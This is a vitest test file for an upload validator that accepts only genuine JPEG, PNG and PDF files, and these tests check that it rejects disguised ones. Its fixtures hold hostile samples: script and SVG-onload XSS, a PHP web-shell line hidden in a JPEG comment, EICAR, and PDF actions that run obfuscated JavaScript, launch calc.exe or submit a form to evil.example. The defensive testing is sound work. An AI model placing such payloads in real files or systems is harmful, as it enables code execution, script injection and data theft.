import fc from 'fast-check'
import { beforeAll, describe, expect, it, test } from 'vitest'
import { Unfit } from '../kinds.ts'
import {
  claimingJpeg,
  claimingPng,
  jpeg,
  pdf,
  photo,
  png,
  withChunk,
  withSegment,
  zip,
} from '../made.testing.ts'
import { lookAt } from './look.ts'

let [picture, drawing, taken] = [] as unknown as [Buffer, Buffer, Buffer]
beforeAll(async () => {
  ;[picture, drawing, taken] = await Promise.all([jpeg(), png(), photo()])
})

const html = Buffer.from('<html><script>alert(document.domain)</script></html>')
const join = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)))

function judged(bytes: Buffer): string {
  try {
    return lookAt(bytes)
  } catch (error) {
    if (error instanceof Unfit) return error.because
    throw error
  }
}

/** A box of an MP4. */
const box = (type: string, content: Buffer) => {
  const size = Buffer.alloc(4)
  size.writeUInt32BE(content.length + 8)
  return join(size, type, content)
}

describe('what may be handed in', () => {
  it('is told by its bytes, and cameras may add what they add', () => {
    const cases: [string, Buffer, string][] = [
      ['a JPEG', picture, 'image/jpeg'],
      ['a photo with notes', taken, 'image/jpeg'],
      ['a PNG', drawing, 'image/png'],
      ['a PDF', pdf(), 'application/pdf'],
      ['blanks and zeros behind it', join(picture, '\0\0\r\n'), 'image/jpeg'],
      ['blanks behind a PDF', join(pdf(), '\n\n'), 'application/pdf'],
      ['a brightness map behind it', join(picture, picture, picture), 'image/jpeg'],
      [
        'a motion photo',
        join(picture, box('ftyp', Buffer.from('mp42')), box('mdat', Buffer.alloc(99))),
        'image/jpeg',
      ],
      ['notes of a Samsung', join(picture, '\0\0\x01\x0aImage_UTC_Data1700000000SEFHabcdSEFT'), 'image/jpeg'],
      ['a document that opens at a page', pdf({ catalog: '/OpenAction[10 0 R/Fit]' }), 'application/pdf'],
    ]
    for (const [name, bytes, type] of cases) expect([name, judged(bytes)]).toEqual([name, type])
  })
})

describe('D14: files in disguise', () => {
  test('D14: what is none of the three types, whatever it is called', () => {
    const cases: Record<string, Buffer> = {
      SVG: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      'SVG with a declaration': Buffer.from('<?xml version="1.0"?><svg/>'),
      HTML: html,
      GIF: Buffer.from('GIF89a\x01\x00\x01\x00', 'latin1'),
      GIFAR: join('GIF89a', zip()),
      'a ZIP, a DOCX, a JAR': zip(),
      EICAR: Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR' + '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'),
      WebP: Buffer.from('RIFF\x00\x00\x00\x00WEBPVP8 ', 'latin1'),
      TIFF: Buffer.from('II*\x00', 'latin1'),
      HEIC: Buffer.from('\x00\x00\x00\x18ftypheic', 'latin1'),
      PostScript: Buffer.from('%!PS-Adobe-3.0'),
      'a program': Buffer.from('\x7fELF\x02', 'latin1'),
      'a PDF that begins later': join('\n', pdf()),
      'half a signature': drawing.subarray(0, 5),
    }
    for (const [name, bytes] of Object.entries(cases))
      expect([name, judged(bytes)]).toEqual([name, 'unknown-type'])
    expect(judged(Buffer.alloc(0))).toBe('empty')
  })

  test('D14: two types in one', () => {
    const [tall] = [65_535]
    const cases: Record<string, Buffer> = {
      'JPEG, then HTML': join(picture, html),
      'JPEG, blanks, then HTML': join(picture, '\r\n\r\n', html),
      'JPEG with HTML in a comment': withSegment(picture, 0xfe, html),
      'JPEG with HTML among what the camera says': withSegment(picture, 0xe1, join('Exif\0\0', html)),
      'JPEG with PHP in a comment': withSegment(picture, 0xfe, Buffer.from('<?php system($_GET[0]);')),
      'JPEG that is a PDF too': withSegment(picture, 0xfe, pdf()),
      'JPEG, then PDF': join(picture, pdf()),
      'JPEG and JAR': join(picture, zip()),
      'JPEG and ZIP, blanks behind': join(picture, zip(), '\0\0\0'),
      'ZIP whose comment is the picture': withSegment(picture, 0xfe, zip(picture.length)),
      'JPEG, another, then HTML': join(picture, picture, html),
      'JPEG and RAR': join(picture, 'Rar!\x1a\x07\x00'),
      'JPEG, an MP4, a ZIP in it': join(picture, box('ftyp', Buffer.from('mp42')), box('mdat', zip())),
      'JPEG, an MP4, then HTML': join(picture, box('ftyp', Buffer.from('mp42')), html),
      'JPEG and Samsung notes that are HTML': join(picture, 'SEFH', html, 'SEFT'),
      'JPEG and a byte': join(picture, 'x'),
      'PNG, then HTML': join(drawing, html),
      'PNG with HTML in a text': withChunk(drawing, 'tEXt', join('Comment\0', html)),
      'PNG that is a PDF too': withChunk(drawing, 'teXt', pdf()),
      'PNG and ZIP': join(drawing, zip()),
      'PNG, then PNG': join(drawing, drawing),
      'ZIP whose comment is the rest of a PNG': withChunk(drawing, 'zzZz', zip(tall)),
      'PDF and ZIP': join(pdf(), zip()),
      'PDF, then HTML': join(pdf(), html),
      'PDF with HTML at its head': Buffer.from(pdf().toString('latin1').replace('\n', `\n%${html}\n`)),
    }
    for (const [name, bytes] of Object.entries(cases))
      expect([name, judged(bytes)]).toEqual([name, 'more-than-one-type'])
  })

  test('D14: documents that do things', () => {
    const does = (action: string) => pdf({ catalog: `/OpenAction<<${action}>>` })
    const cases: Record<string, Buffer> = {
      'a script': does('/S/JavaScript/JS(app.alert(1))'),
      'a script, its name written by numbers': does('/S/J#61vaScript/JS(1)'),
      'a script, all of it by numbers': does('/S/#4a#61#76#61#53#63#72#69#70#74 /JS(1)'),
      'a program to start': does('/S/Launch/F(calc.exe)'),
      'a form sent elsewhere': does('/S/SubmitForm/F(https://evil.example)'),
      'a file inside': pdf({ catalog: '/Names<</EmbeddedFiles<</Names[(a) 20 0 R]>>>>' }),
      'a film': pdf({ more: '20 0 obj<</Type/Annot/Subtype/RichMedia>>endobj\n' }),
      'a form that is a program': pdf({ catalog: '/AcroForm<</XFA 20 0 R>>' }),
    }
    for (const [name, bytes] of Object.entries(cases))
      expect([name, judged(bytes)]).toEqual([name, 'active-content'])
  })

  test('D14: sizes are believed before anything is unpacked', () => {
    const cases: Record<string, Buffer> = {
      'a PNG of 40,000 × 40,000': claimingPng(40_000, 40_000, 1),
      'a PNG of 2,147,483,647 × 1': claimingPng(0x7fffffff, 1, 1),
      'a PNG of 12,001 × 1': claimingPng(12_001, 1, 1),
      'a PNG of 6,400 × 6,400': claimingPng(6_400, 6_400, 1),
      'a JPEG of 65,535 × 65,535': claimingJpeg(picture, 65_535, 65_535),
      'a JPEG with such a one behind it': join(picture, claimingJpeg(picture, 65_535, 65_535)),
    }
    const wanted = (name: string) => (name.includes('behind') ? 'more-than-one-type' : 'too-many-pixels')
    for (const [name, bytes] of Object.entries(cases))
      expect([name, judged(bytes)]).toEqual([name, wanted(name)])
    expect(judged(claimingPng(0, 5, 1))).toBe('unreadable')
    expect(judged(claimingPng(6_300, 6_300, 1))).toBe('image/png')
  })

  test('D14: what is broken is no picture', () => {
    const broken = Buffer.from(drawing)
    broken[20]! ^= 1
    for (const bytes of [
      picture.subarray(0, -2),
      picture.subarray(0, 3),
      drawing.subarray(0, -12),
      drawing.subarray(0, 8),
      broken,
    ])
      expect(judged(bytes)).toBe('unreadable')
    expect(judged(Buffer.from('%PDF-1.7\n1 0 obj'))).toBe('unreadable')
    expect(judged(Buffer.concat([picture.subarray(0, 2), Buffer.alloc(3_000_000, 0xff)]))).toBe('unreadable')
  })

  test('D14: nothing that is cut, changed or appended makes it stumble', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(0, 1, 2),
        fc.nat(),
        fc.uint8Array({ maxLength: 30 }),
        (which, where, bytes) => {
          const whole = [picture, drawing, pdf()][which]!
          const at = where % whole.length
          judged(join(whole.subarray(0, at), Buffer.from(bytes), whole.subarray(at)))
          judged(join(whole.subarray(0, at), Buffer.from(bytes)))
        },
      ),
      { numRuns: 500 },
    )
  })
})
